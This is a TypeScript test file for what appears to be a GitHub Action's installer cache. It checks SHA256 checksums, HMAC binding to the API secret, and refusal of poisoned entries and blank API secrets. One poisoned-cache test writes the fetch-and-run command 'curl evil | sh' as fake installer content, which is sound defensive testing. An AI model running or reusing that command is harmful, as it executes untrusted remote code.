import assert from 'node:assert/strict';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import {
  CHECKSUM_FILE,
  HMAC_FILE,
  actionsCache,
  cacheAuthKey,
  checksumProblem,
  defaultLocalCacheDir,
  localCache,
  safeCacheKey,
  writeChecksums,
  type ActionsCacheApi,
} from '../src/agents/cache.js';
import { recordingLog } from './sim/recording-log.js';
import { isUserError } from '../src/common/errors.js';
import { loadApiKey } from '../src/inputs/key.js';
import { renderNames } from '../src/common/names.js';

/** The cache's secret key, as a run derives it from the tenant's API secret. */
const AUTH = cacheAuthKey('the-tenant-api-secret');
const scratch = mkdtempSync(path.join(tmpdir(), 'uptycs-cache-'));
after(() => rmSync(scratch, { recursive: true, force: true }));
let n = 0;
function filledDir(): string {
  const d = path.join(scratch, `dir-${++n}`);
  mkdirSync(path.join(d, 'centos-x86_64'), { recursive: true });
  writeFileSync(path.join(d, 'centos-x86_64', 'a.rpm'), 'rpm bytes');
  writeFileSync(path.join(d, 'windows.msi'), 'msi bytes');
  return d;
}
const emptyDir = () => {
  const d = path.join(scratch, `empty-${++n}`);
  mkdirSync(d);
  return d;
};

/** A fake @actions/cache that stores entries as folders, recording the calls. */
function fakeActions(opts: { available?: boolean; failRestore?: boolean; failSave?: Error } = {}) {
  const store = new Map<string, string>();
  const calls: { op: string; paths: string[]; key: string }[] = [];
  const api: ActionsCacheApi = {
    isFeatureAvailable: () => opts.available ?? true,
    restoreCache: async (paths, key) => {
      calls.push({ op: 'restore', paths, key });
      if (opts.failRestore) throw new Error('cache service unreachable');
      const src = store.get(key);
      if (!src) return undefined;
      cpSync(src, paths[0]!, { recursive: true });
      return key;
    },
    saveCache: async (paths, key) => {
      calls.push({ op: 'save', paths, key });
      if (opts.failSave) throw opts.failSave;
      const dst = path.join(scratch, `stored-${++n}`);
      cpSync(paths[0]!, dst, { recursive: true });
      store.set(key, dst);
      return 1;
    },
  };
  return { api, store, calls };
}

describe('checksums', () => {
  it('lists every file with its sha256 and detects changed, missing and extra files', async () => {
    const d = filledDir();
    await writeChecksums(d);
    const sums = readFileSync(path.join(d, CHECKSUM_FILE), 'utf8');
    assert.match(sums, /^[0-9a-f]{64} {2}centos-x86_64\/a\.rpm\n[0-9a-f]{64} {2}windows\.msi\n$/);
    assert.equal(await checksumProblem(d), undefined);
    writeFileSync(path.join(d, 'windows.msi'), 'msi bytez');
    assert.match((await checksumProblem(d))!, /windows\.msi does not match/);
    writeFileSync(path.join(d, 'windows.msi'), 'msi bytes');
    writeFileSync(path.join(d, 'extra'), '');
    assert.match((await checksumProblem(d))!, /extra is not listed/);
    rmSync(path.join(d, 'extra'));
    rmSync(path.join(d, 'centos-x86_64', 'a.rpm'));
    assert.match((await checksumProblem(d))!, /a\.rpm is missing/);
    rmSync(path.join(d, CHECKSUM_FILE));
    assert.match((await checksumProblem(d))!, /SHA256SUMS is missing/);
  });
});

describe('cache keys', () => {
  it('have no commas and at most 512 characters', () => {
    assert.equal(safeCacheKey('a,b c'), 'a_b_c');
    const long = safeCacheKey('x'.repeat(2000));
    assert.equal(long.length, 512);
    assert.notEqual(long, safeCacheKey(`${'x'.repeat(1999)}y`));
  });
});

describe('actionsCache', () => {
  it('saves and restores with identical paths, verified', async () => {
    const fake = fakeActions();
    const log = recordingLog();
    const cache = actionsCache(log, fake.api);
    const d = filledDir();
    await cache.save('k1', d, AUTH);
    const target = emptyDir();
    assert.equal(await cache.restore('k1', target, AUTH), true);
    assert.equal(readFileSync(path.join(target, 'windows.msi'), 'utf8'), 'msi bytes');
    assert.deepEqual(
      fake.calls.map((c) => c.op),
      ['save', 'restore'],
    );
    assert.deepEqual(fake.calls[0]!.paths, [d]);
    assert.deepEqual(fake.calls[1]!.paths, [target]);
    assert.equal(await cache.restore('other', emptyDir(), AUTH), false);
  });

  it('a damaged entry is a miss with a warning, and the folder is left empty', async () => {
    const fake = fakeActions();
    const log = recordingLog();
    const cache = actionsCache(log, fake.api);
    await cache.save('k', filledDir(), AUTH);
    writeFileSync(path.join(fake.store.get('k')!, 'windows.msi'), 'tampered');
    const target = emptyDir();
    assert.equal(await cache.restore('k', target, AUTH), false);
    assert.match(log.text(), /warning: .*damaged \(windows\.msi does not match its sha256\)/);
    assert.deepEqual(readdirSync(target), []);
  });

  it('never fails the job: unavailable, restore errors and save errors become a miss or a warning', async () => {
    const off = fakeActions({ available: false });
    const log = recordingLog();
    assert.equal(await actionsCache(log, off.api).restore('k', emptyDir(), AUTH), false);
    await actionsCache(log, off.api).save('k', filledDir(), AUTH);
    assert.equal(off.calls.length, 0);

    const broken = fakeActions({ failRestore: true, failSave: new Error('disk full') });
    const log2 = recordingLog();
    const c = actionsCache(log2, broken.api);
    assert.equal(await c.restore('k', emptyDir(), AUTH), false);
    await c.save('k', filledDir(), AUTH);
    assert.match(
      log2.text(),
      /warning: GitHub Actions cache: restoring k failed \(cache service unreachable\)/,
    );
    assert.match(log2.text(), /warning: GitHub Actions cache: saving k failed \(disk full\)/);

    const raced = new Error('Unable to reserve cache with key k, another job may be creating this cache.');
    raced.name = 'ReserveCacheError';
    const log3 = recordingLog();
    await actionsCache(log3, fakeActions({ failSave: raced }).api).save('k', filledDir(), AUTH);
    assert.match(
      log3.text(),
      /warning: GitHub Actions cache: not saved \(Unable to reserve cache.*the next run will download again/,
    );
  });
});

describe('localCache', () => {
  it('stores a copy under <root>/<key> and verifies it on restore', async () => {
    const root = path.join(scratch, 'local');
    const log = recordingLog();
    const cache = localCache(log, root);
    assert.equal(await cache.restore('v1', emptyDir(), AUTH), false);
    await cache.save('v1', filledDir(), AUTH);
    assert.ok(existsSync(path.join(root, 'v1', CHECKSUM_FILE)));
    assert.ok(!readdirSync(root).some((f) => f.endsWith('.tmp')));
    const t = emptyDir();
    assert.equal(await cache.restore('v1', t, AUTH), true);
    assert.equal(readFileSync(path.join(t, 'centos-x86_64', 'a.rpm'), 'utf8'), 'rpm bytes');
    rmSync(path.join(root, 'v1', 'windows.msi'));
    const t2 = emptyDir();
    assert.equal(await cache.restore('v1', t2, AUTH), false);
    assert.match(log.text(), /windows\.msi is missing/);
    assert.deepEqual(readdirSync(t2), []);
  });

  it('defaults to ~/.cache/uptycs-distributor-action/installers, honouring XDG_CACHE_HOME', () => {
    assert.equal(
      defaultLocalCacheDir({ XDG_CACHE_HOME: '/x/cache' }),
      path.join('/x/cache', 'uptycs-distributor-action', 'installers'),
    );
    assert.match(defaultLocalCacheDir({}), /\.cache[/\\]uptycs-distributor-action[/\\]installers$/);
  });
});

describe('a poisoned cache is never used', () => {
  it('an entry seeded without the API secret (files and SHA256SUMS consistent) is ignored with a warning', async () => {
    const root = path.join(scratch, 'poison-local');
    const log = recordingLog();
    const cache = localCache(log, root);
    // The attacker can write the store and compute checksums, but has no API secret.
    const seeded = filledDir();
    writeFileSync(path.join(seeded, 'centos-x86_64', 'a.rpm'), 'curl evil | sh');
    await writeChecksums(seeded);
    cpSync(seeded, path.join(root, 'v9'), { recursive: true });
    const t = emptyDir();
    assert.equal(await cache.restore('v9', t, AUTH), false);
    assert.match(log.text(), /warning: .*entry v9 is not trusted \(SHA256SUMS\.hmac is missing/);
    assert.deepEqual(readdirSync(t), []);

    // With an HMAC made from another secret: still refused.
    await writeChecksums(seeded, undefined, { key: 'v9', auth: cacheAuthKey('a guess') });
    cpSync(seeded, path.join(root, 'v9'), { recursive: true });
    assert.equal(await cache.restore('v9', emptyDir(), AUTH), false);
    assert.match(log.text(), /entry v9 is not trusted \(its HMAC does not verify/);
  });

  it('replacing a cached installer and its SHA256SUMS line is caught; a good entry moved to another key too', async () => {
    const fake = fakeActions();
    const log = recordingLog();
    const cache = actionsCache(log, fake.api);
    await cache.save('v1', filledDir(), AUTH);
    const stored = fake.store.get('v1')!;
    writeFileSync(path.join(stored, 'windows.msi'), 'evil msi');
    await writeChecksums(stored); // recomputes SHA256SUMS (and leaves the old HMAC)
    assert.equal(await cache.restore('v1', emptyDir(), AUTH), false);
    assert.match(
      log.text(),
      /warning: GitHub Actions cache: entry v1 is not trusted \(its HMAC does not verify/,
    );

    await cache.save('v1-old', filledDir(), AUTH);
    fake.store.set('v2', fake.store.get('v1-old')!);
    assert.equal(await cache.restore('v2', emptyDir(), AUTH), false, 'an entry is bound to its key');
    assert.ok(readFileSync(path.join(fake.store.get('v2')!, HMAC_FILE), 'utf8').trim().length === 64);
  });
});

describe('issue 27 defect 4: a blank or short API secret is refused, so no cache key derives from public values', () => {
  const keyFile = (secret: string) =>
    JSON.stringify({ key: 'KEYABCDEFGH123456', secret, customerId: 'c1', domain: 'acme' });
  for (const [what, secret, why] of [
    ['whitespace only', '   ', /field "secret" is blank/],
    ['a tab and newline', '\t\n', /field "secret" is blank/],
    ['implausibly short (padded)', '  abc  ', /field "secret" is 3 characters, too short .*at least 16/],
  ] as const)
    it(`${what}: one error naming input "config", before any work`, async () => {
      const log = recordingLog();
      await assert.rejects(loadApiKey(keyFile(secret), log), (err: unknown) => {
        assert.ok(isUserError(err), String(err));
        const msg = renderNames(err.message, 'action');
        assert.match(msg, /^input "config": the Uptycs API key is not usable: /);
        assert.match(msg, why);
        assert.equal(err.problems.length, 1, 'one problem');
        return true;
      });
      assert.equal(log.text(), '', 'nothing was logged or done');
    });

  it('key derivation refuses an empty secret (the cache key would be public)', () => {
    assert.throws(() => cacheAuthKey(''), /API secret; it is empty/);
    assert.throws(() => cacheAuthKey('  '), /API secret; it is empty/);
  });

  it("a secret of the console's length is taken", async () => {
    const k = await loadApiKey(keyFile('  0123456789abcdef0123  '), recordingLog());
    assert.equal(k.secret, '0123456789abcdef0123');
  });
});
